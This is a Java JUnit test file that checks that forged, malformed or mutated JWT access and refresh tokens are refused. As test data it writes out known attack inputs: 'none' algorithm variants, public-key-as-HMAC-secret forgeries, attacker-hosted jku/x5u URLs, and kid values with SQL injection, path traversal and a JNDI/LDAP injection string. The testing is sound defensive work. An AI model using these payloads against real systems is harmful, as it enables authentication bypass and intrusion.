package dev.gatehouse.core.permit;

import static org.assertj.core.api.Assertions.assertThat;

import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSObject;
import com.nimbusds.jose.crypto.ECDSAVerifier;
import com.nimbusds.jose.jwk.Curve;
import com.nimbusds.jose.jwk.ECKey;
import com.nimbusds.jose.jwk.JWK;
import com.nimbusds.jose.jwk.JWKSet;
import com.nimbusds.jose.jwk.OctetKeyPair;
import com.nimbusds.jose.jwk.OctetSequenceKey;
import com.nimbusds.jose.jwk.RSAKey;
import java.math.BigInteger;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Tokens made to be taken for ours. None may be. */
class TokenAttackTest {

    private static final String BASE64URL = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

    private final Ring ring = Ring.of(SigningAlgorithm.ES256);
    private final JWK key = ring.key(KeyPurpose.ACCESS);
    private final String token = ring.accessToken();
    private final RawToken genuine = RawToken.of(token);
    private final String refreshToken = ring.refreshTokens.issue(ring.permit(), "identity");

    @Test
    void theGenuineOneIsAccepted() {
        assertThat(ring.reader.read(token)).isInstanceOf(Reading.Valid.class);
        assertThat(ring.refreshTokens.read(refreshToken)).isInstanceOf(RefreshReading.Genuine.class);
        assertThat(genuine.headerJson()).contains("\"alg\":\"ES256\"", "\"kid\":\"" + key.getKeyID() + "\"");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "none",
                "None",
                "NONE",
                "nOnE",
                "none ",
                " none",
                "n\\u006fne",
                "",
                "null",
                "HS256",
                "HS384",
                "ES384",
                "ES256K",
                "ES256 ",
                "es256",
                "RS256",
                "PS256",
                "EdDSA",
                "Ed25519",
                "dir"
            })
    void anotherAlgorithmThanTheKeysIsRefusedSignedOrNot(String algorithm) {
        String header = headerWith("\"alg\":\"" + algorithm + "\"");

        assertRefused(RawToken.base64(header) + "." + genuine.payload() + ".");
        assertRefused(RawToken.base64(header) + "." + genuine.payload() + "." + genuine.signature());
        assertRefused(RawToken.signed(header, genuine.payloadJson(), key));
    }

    @ParameterizedTest
    @ValueSource(strings = {"null", "[]", "[\"ES256\"]", "{}", "true", "0"})
    void anAlgorithmThatIsNoTextIsRefused(String algorithm) {
        assertRefused(RawToken.signed(headerWith("\"alg\":" + algorithm), genuine.payloadJson(), key));
    }

    @Test
    void aHeaderWithoutAnAlgorithmOrKeyIsRefused() {
        assertRefused(
                RawToken.signed("{\"kid\":\"" + key.getKeyID() + "\",\"typ\":\"at+jwt\"}", genuine.payloadJson(), key));
        assertRefused(RawToken.signed("{\"alg\":\"ES256\",\"typ\":\"at+jwt\"}", genuine.payloadJson(), key));
        assertRefused(RawToken.signed("{}", genuine.payloadJson(), key));
    }

    /** The public key is known to all: no encoding of it may pass as a secret. */
    @ParameterizedTest
    @EnumSource(names = {"ES256", "RS256", "ED25519"})
    void aTokenMadeWithThePublicKeyAsSecretIsRefused(SigningAlgorithm algorithm) throws Exception {
        Ring victim = Ring.of(algorithm);
        String payload = RawToken.of(victim.accessToken()).payloadJson();
        JWK published = JWKSet.parse(victim.keyRing.jwkSet()).getKeys().getFirst();
        for (byte[] encoding : encodings(published, victim.keyRing.jwkSet())) {
            for (JWSAlgorithm hmac : List.of(JWSAlgorithm.HS256, JWSAlgorithm.HS384, JWSAlgorithm.HS512)) {
                JWK secret = new OctetSequenceKey.Builder(padded(encoding))
                        .algorithm(hmac)
                        .build();
                String header =
                        "{\"alg\":\"" + hmac + "\",\"kid\":\"" + published.getKeyID() + "\",\"typ\":\"at+jwt\"}";

                assertThat(victim.reader.read(RawToken.signed(header, payload, secret)))
                        .isInstanceOf(Reading.Invalid.class);
            }
        }
    }

    @Test
    void aTokenThatBringsItsOwnKeyIsRefused() {
        ECKey own = (ECKey) NewKey.of(JWSAlgorithm.ES256);
        String jwk = own.toPublicJWK().toJSONString();
        for (String member : List.of(
                "\"jwk\":" + jwk,
                "\"jwk\":" + jwk.replace(own.getKeyID(), key.getKeyID()),
                "\"jku\":\"https://evil.example/jwks.json\"",
                "\"x5u\":\"https://evil.example/chain.pem\"",
                "\"x5c\":[\"MIIB\"]",
                "\"x5t\":\"AAAA\"",
                "\"x5t#S256\":\"AAAA\"")) {
            assertRefused(RawToken.signed(headerWith("\"alg\":\"ES256\"," + member), genuine.payloadJson(), own));
            assertRefused(RawToken.signed(headerWith("\"alg\":\"ES256\"," + member), genuine.payloadJson(), key));
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "\"crit\":[]",
                "\"crit\":[\"exp\"]",
                "\"crit\":[\"b64\"],\"b64\":false",
                "\"b64\":false",
                "\"b64\":true",
                "\"zip\":\"DEF\"",
                "\"cty\":\"JWT\"",
                "\"enc\":\"A256GCM\"",
                "\"nonce\":\"x\"",
                "\"iss\":\"gatehouse\"",
                "\"\":\"\"",
                "\"Alg\":\"none\"",
                "\"alg \":\"none\"",
                "\"__proto__\":{}",
            })
    void anyOtherHeaderMemberIsRefusedEvenIfGenuinelySigned(String member) {
        assertRefused(RawToken.signed(headerWith("\"alg\":\"ES256\"," + member), genuine.payloadJson(), key));
    }

    @Test
    void aHeaderMemberTwiceIsRefusedEvenIfGenuinelySigned() {
        for (String twice : List.of(
                "\"alg\":\"ES256\",\"alg\":\"ES256\"",
                "\"alg\":\"none\",\"alg\":\"ES256\"",
                "\"alg\":\"ES256\",\"alg\":\"none\"",
                "\"alg\":\"ES256\",\"\\u0061lg\":\"none\"",
                "\"alg\":\"ES256\",\"kid\":\"other\"",
                "\"alg\":\"ES256\",\"typ\":\"at+jwt\"")) {
            assertRefused(RawToken.signed(headerWith(twice), genuine.payloadJson(), key));
        }
    }

    @Test
    void aHostileKeyIdIsRefused() {
        for (String id : List.of(
                "\"\"",
                "\" \"",
                "null",
                "1",
                "true",
                "[]",
                "[\"" + key.getKeyID() + "\"]",
                "{\"$ne\":null}",
                "\"../../../../dev/null\"",
                "\"/etc/passwd\"",
                "\"' OR '1'='1\"",
                "\"x' UNION SELECT 'AAAA'; --\"",
                "\"" + key.getKeyID() + " \"",
                "\"" + key.getKeyID() + "\\u0000\"",
                "\"" + key.getKeyID().toLowerCase(Locale.ROOT) + "x\"",
                "\"configured\"",
                "\"" + ring.key(KeyPurpose.REFRESH).getKeyID() + "\"",
                "\"" + ring.key(KeyPurpose.LINEAGE).getKeyID() + "\"",
                "\"" + "A".repeat(5_000) + "\"",
                "\"${jndi:ldap://evil.example/a}\"")) {
            String header = "{\"alg\":\"ES256\",\"kid\":" + id + ",\"typ\":\"at+jwt\"}";

            assertRefused(RawToken.signed(header, genuine.payloadJson(), key));
            assertRefused(RawToken.base64(header) + "." + genuine.payload() + ".");
        }
    }

    @Test
    void theEmptySecretIsNobodysKey() {
        String header =
                "{\"alg\":\"HS256\",\"kid\":\"" + ring.key(KeyPurpose.REFRESH).getKeyID() + "\",\"typ\":\"rt+jwt\"}";
        JWK zeros = new OctetSequenceKey.Builder(new byte[32])
                .algorithm(JWSAlgorithm.HS256)
                .build();

        assertRefused(RawToken.signed(header, RawToken.of(refreshToken).payloadJson(), zeros));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "\"\"",
                "{}",
                "[]",
                "null",
                "foo",
                "{\"alg\":\"ES256\"",
                "{'alg':'ES256','kid':'%s','typ':'at+jwt'}",
                "{alg:\"ES256\",kid:\"%s\",typ:\"at+jwt\"}",
                "{\"alg\":\"ES256\",\"kid\":\"%s\",\"typ\":\"at+jwt\",}",
                "{\"alg\":\"ES256\",\"kid\":\"%s\",\"typ\":\"at+jwt\"}}",
                "{\"alg\":\"ES256\",\"kid\":\"%s\",\"typ\":\"at+jwt\"}{}",
                "{\"alg\":\"ES256\",\"kid\":\"%s\",\"typ\":\"at+jwt\"} ",
                " {\"alg\":\"ES256\",\"kid\":\"%s\",\"typ\":\"at+jwt\"}",
                "{\"alg\":\"ES256\",\"kid\":\"%s\",\"typ\":\"at+jwt\"/**/}",
                "{\"alg\"=\"ES256\";\"kid\"=\"%s\";\"typ\"=\"at+jwt\"}",
                "\uFEFF{\"alg\":\"ES256\",\"kid\":\"%s\",\"typ\":\"at+jwt\"}",
            })
    void aHeaderThatIsNoStrictJsonObjectIsRefusedEvenIfGenuinelySigned(String header) {
        assertRefused(RawToken.signed(header.replace("%s", key.getKeyID()), genuine.payloadJson(), key));
    }

    @Test
    void aDeeplyNestedHeaderIsRefused() {
        assertRefused(RawToken.signed("{\"alg\":" + "[".repeat(5_000), "{}", key));
        assertRefused(RawToken.signed("{\"alg\":" + "{\"a\":".repeat(1_000), "{}", key));
    }

    @Test
    void anyOtherNumberOfSegmentsIsRefused() {
        for (String other : List.of(
                "",
                ".",
                "..",
                "...",
                ".".repeat(8_000),
                token + ".",
                token + "..",
                "." + token,
                token + "." + genuine.signature(),
                genuine.header() + "." + genuine.payload(),
                genuine.header() + "." + genuine.payload() + ".",
                genuine.header() + ".." + genuine.signature(),
                "." + genuine.payload() + "." + genuine.signature(),
                genuine.header(),
                token + "." + token,
                genuine.header() + "." + genuine.payload() + "." + genuine.signature() + ".AA.AA")) {
            assertRefused(other);
        }
    }

    @Test
    void aTokenInJsonSerializationIsRefused() {
        assertRefused("{\"protected\":\"" + genuine.header() + "\",\"payload\":\"" + genuine.payload()
                + "\",\"signature\":\"" + genuine.signature() + "\"}");
    }

    @Test
    void anyOtherSpellingOfTheSameBytesIsRefused() {
        for (String other : List.of(
                " " + token,
                token + " ",
                token + "\n",
                token + "\u0000",
                token + "=",
                token + "==",
                "Bearer " + token,
                "\"" + token + "\"",
                genuine.header() + "=." + genuine.payload() + "." + genuine.signature(),
                genuine.header() + "." + genuine.payload() + "=." + genuine.signature(),
                genuine.header() + "\n." + genuine.payload() + "." + genuine.signature(),
                token.replace(".", "%2E"),
                token.replace('.', '\uFF0E'),
                fullWidth(token),
                token.replace('-', '+').replace('_', '/') + "+")) {
            assertRefused(other);
        }
    }

    /** Only the highest bits of a segment's last character may mean something. */
    @Test
    void unusedBitsOfTheLastCharacterMustBeZero() {
        int tried = 0;
        for (SigningAlgorithm algorithm : SigningAlgorithm.values()) {
            Ring victim = Ring.of(algorithm);
            RawToken valid = RawToken.of(victim.accessToken());
            for (String other : List.copyOf(sameBytes(valid))) {
                assertThat(victim.reader.read(other)).isInstanceOf(Reading.Invalid.class);
                tried++;
            }
        }
        assertThat(tried).isPositive();
    }

    @Test
    void everyChangeOfOneCharacterIsRefused() {
        for (int i = 0; i < token.length(); i++) {
            char flipped = BASE64URL.charAt((BASE64URL.indexOf(token.charAt(i)) + 1) % 64);
            assertRefused(token.substring(0, i) + flipped + token.substring(i + 1));
            assertRefused(token.substring(0, i) + token.substring(i + 1));
            assertRefused(token.substring(0, i));
        }
    }

    /** Enough for the twin to be the lower one, and for a leading zero, many times over. */
    @Test
    void theTwinOfAnEcdsaSignatureIsRefusedThoughItVerifies() throws Exception {
        ECDSAVerifier verifier = new ECDSAVerifier(key.toECKey().toPublicJWK());
        for (int time = 0; time < 600; time++) {
            RawToken issued = RawToken.of(ring.accessToken());
            RawToken twin = new RawToken(issued.header(), issued.payload(), twinOf(issued.signature()));
            assertThat(ring.reader.read(issued.toString())).isInstanceOf(Reading.Valid.class);
            assertThat(JWSObject.parse(twin.toString()).verify(verifier)).isTrue();
            assertRefused(twin.toString());
        }
    }

    @Test
    void segmentsOfTwoGenuineTokensDoNotMix() {
        RawToken other = RawToken.of(ring.accessToken());

        assertRefused(genuine.header() + "." + other.payload() + "." + genuine.signature());
        assertRefused(genuine.header() + "." + genuine.payload() + "." + other.signature());
        assertRefused(RawToken.of(refreshToken).header() + "." + genuine.payload() + "." + genuine.signature());
    }

    @ParameterizedTest
    @CsvSource({"ES256, 10000", "ED25519, 2000", "RS256, 2000", "HS256, 10000"})
    void noneOfThousandsOfRandomMutationsIsAccepted(SigningAlgorithm algorithm, int mutations) {
        Ring victim = Ring.of(algorithm);
        String valid = victim.accessToken();
        String validRefresh = victim.refreshTokens.issue(victim.permit(), "identity");
        Random random = new Random(2026);
        List<String> accepted = new ArrayList<>();
        for (int i = 0; i < mutations; i++) {
            String mutant = mutate(valid, random);
            String refreshMutant = mutate(validRefresh, random);
            if (!(victim.reader.read(mutant) instanceof Reading.Invalid)) {
                accepted.add(mutant);
            }
            if (!(victim.refreshTokens.read(refreshMutant) instanceof RefreshReading.Invalid)) {
                accepted.add(refreshMutant);
            }
        }
        assertThat(accepted).isEmpty();
    }

    @Test
    void aTokenOfAMegabyteIsRefusedEvenIfGenuinelySigned() {
        assertRefused(RawToken.signed(headerWith("\"alg\":\"ES256\""), payloadOf(1_000_000), key));
        assertRefused(token + "A".repeat(1_000_000));
        assertRefused(".".repeat(1_000_000));
    }

    @Test
    void aTokenOfTheGreatestLengthIsReadAndOneAboveIsNot() {
        String header = headerWith("\"alg\":\"ES256\"");
        int left = CompactJws.MAX_LENGTH
                - RawToken.base64(header).length()
                - genuine.signature().length()
                - 2;
        int mostBytes = left * 3 / 4;
        String fits = RawToken.signed(header, payloadOf(mostBytes), key);
        String above = RawToken.signed(header, payloadOf(mostBytes + 1), key);

        assertThat(fits.length()).isBetween(CompactJws.MAX_LENGTH - 2, CompactJws.MAX_LENGTH);
        assertThat(ring.reader.read(fits)).isInstanceOf(Reading.Valid.class);
        assertThat(above.length()).isBetween(CompactJws.MAX_LENGTH + 1, CompactJws.MAX_LENGTH + 2);
        assertRefused(above);
    }

    private static String twinOf(String signature) {
        byte[] bytes = Base64.getUrlDecoder().decode(signature);
        BigInteger s = new BigInteger(1, bytes, 32, 32);
        BigInteger other = Curve.P_256.toECParameterSpec().getOrder().subtract(s);
        return RawToken.base64(ByteBuffer.allocate(64)
                .put(bytes, 0, 32)
                .put(HexFormat.of().parseHex(String.format("%064x", other)))
                .array());
    }

    private void assertRefused(String attack) {
        assertThat(ring.reader.read(attack)).isInstanceOf(Reading.Invalid.class);
        assertThat(ring.refreshTokens.read(attack)).isInstanceOf(RefreshReading.Invalid.class);
    }

    private String headerWith(String members) {
        return "{" + members + ",\"kid\":\"" + key.getKeyID() + "\",\"typ\":\"at+jwt\"}";
    }

    /** A payload that would be accepted, made this long by one more claim. */
    private String payloadOf(int bytes) {
        String start = genuine.payloadJson().replaceFirst("}$", ",\"more\":\"");
        return start + "a".repeat(bytes - start.length() - 2) + "\"}";
    }

    /** Everything that a verifier may have at hand where it should have a secret. */
    private static List<byte[]> encodings(JWK published, String jwkSet) throws Exception {
        byte[] der = der(published);
        String base64 = Base64.getEncoder().encodeToString(der);
        String lines = Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(der);
        String pem = "-----BEGIN PUBLIC KEY-----\n" + lines + "\n-----END PUBLIC KEY-----";
        List<byte[]> encodings = new ArrayList<>(List.of(der));
        for (String text : List.of(
                base64,
                lines,
                pem,
                pem + "\n",
                pem.replace("\n", "\r\n"),
                published.toJSONString(),
                jwkSet,
                published.getKeyID(),
                published.computeThumbprint().toString())) {
            encodings.add(text.getBytes(StandardCharsets.UTF_8));
        }
        published.getRequiredParams().values().forEach(value -> {
            encodings.add(value.toString().getBytes(StandardCharsets.UTF_8));
            Secrets.decode(value.toString()).filter(bytes -> bytes.length > 0).ifPresent(encodings::add);
        });
        return encodings;
    }

    private static byte[] der(JWK published) throws Exception {
        return switch (published) {
            case ECKey ec -> ec.toECPublicKey().getEncoded();
            case RSAKey rsa -> rsa.toRSAPublicKey().getEncoded();
            case OctetKeyPair pair ->
                HexFormat.of()
                        .parseHex("302a300506032b6570032100" + HexFormat.of().formatHex(pair.getDecodedX()));
            default -> throw new AssertionError(published.getKeyType());
        };
    }

    /** HMAC fills a short key with zeros itself, so this changes nothing but what Nimbus is willing to sign with. */
    private static byte[] padded(byte[] secret) {
        return secret.length < 64 ? Arrays.copyOf(secret, 64) : secret;
    }

    private static List<String> sameBytes(RawToken valid) {
        List<String> others = new ArrayList<>();
        for (String last : otherLastCharacters(valid.header())) {
            others.add(last + "." + valid.payload() + "." + valid.signature());
        }
        for (String last : otherLastCharacters(valid.payload())) {
            others.add(valid.header() + "." + last + "." + valid.signature());
        }
        for (String last : otherLastCharacters(valid.signature())) {
            others.add(valid.header() + "." + valid.payload() + "." + last);
        }
        return others;
    }

    private static List<String> otherLastCharacters(String segment) {
        int unused = segment.length() % 4 == 2 ? 16 : segment.length() % 4 == 3 ? 4 : 1;
        int value = BASE64URL.indexOf(segment.charAt(segment.length() - 1));
        String start = segment.substring(0, segment.length() - 1);
        List<String> others = new ArrayList<>();
        for (int bits = 1; bits < unused; bits++) {
            String other = start + BASE64URL.charAt(value | bits);
            assertThat(Base64.getUrlDecoder().decode(other))
                    .isEqualTo(Base64.getUrlDecoder().decode(segment));
            others.add(other);
        }
        return others;
    }

    private static String fullWidth(String text) {
        return text.chars().mapToObj(c -> Character.toString(c + 0xFEE0)).reduce("", String::concat);
    }

    private static String mutate(String valid, Random random) {
        StringBuilder mutant = new StringBuilder(valid);
        do {
            mutateOnce(mutant, random);
        } while (mutant.toString().equals(valid) || random.nextInt(3) == 0);
        return mutant.toString();
    }

    private static void mutateOnce(StringBuilder mutant, Random random) {
        int at = random.nextInt(mutant.length());
        char any = BASE64URL.charAt(random.nextInt(64));
        switch (random.nextInt(8)) {
            case 0, 1 -> mutant.setCharAt(at, any);
            case 2 -> mutant.setCharAt(at, (char) random.nextInt(256));
            case 3 -> mutant.insert(at, any);
            case 4 -> mutant.deleteCharAt(at);
            case 5 -> mutant.setCharAt(at, (char) (mutant.charAt(at) ^ (1 << random.nextInt(7))));
            case 6 -> swap(mutant, at, random.nextInt(mutant.length()));
            default -> mutant.setLength(Math.max(at, 1));
        }
        if (mutant.isEmpty()) {
            mutant.append(any);
        }
    }

    private static void swap(StringBuilder mutant, int one, int other) {
        char kept = mutant.charAt(one);
        mutant.setCharAt(one, mutant.charAt(other));
        mutant.setCharAt(other, kept);
    }
}
